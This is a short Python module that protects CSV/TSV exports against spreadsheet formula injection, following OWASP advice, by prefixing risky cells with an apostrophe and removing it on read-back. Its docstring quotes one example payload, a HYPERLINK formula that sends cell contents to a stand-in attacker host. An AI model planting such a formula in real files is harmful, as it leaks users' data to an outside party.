"""Cells of the CSV/TSV files untm writes, made safe to open in a spreadsheet.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) is
run as a formula by Excel, LibreOffice and Google Sheets: a segment such as
``=HYPERLINK("http://evil.example/?"&A1, "Click")`` in a memory from a stranger would run on the
translator's machine. As OWASP recommends against CSV injection, such cells are written with a
leading ``'``, which spreadsheets show as text and do not display; untm's own readers take it
off again, so an export reads back unchanged. ``raw=True`` writers keep cells as they are.
"""

from __future__ import annotations

__all__ = ["FORMULA_STARTS", "defuse", "restore"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def defuse(cell: str) -> str:
    """``cell`` as a spreadsheet shows it as text.

    >>> defuse("=1+2"), defuse("- item"), defuse("Article 2")
    ("'=1+2", "'- item", 'Article 2')
    """
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


def restore(cell: str) -> str:
    """The cell :func:`defuse` was given (other cells unchanged).

    >>> restore("'=1+2"), restore("'quoted'")
    ('=1+2', "'quoted'")
    """
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS) else cell
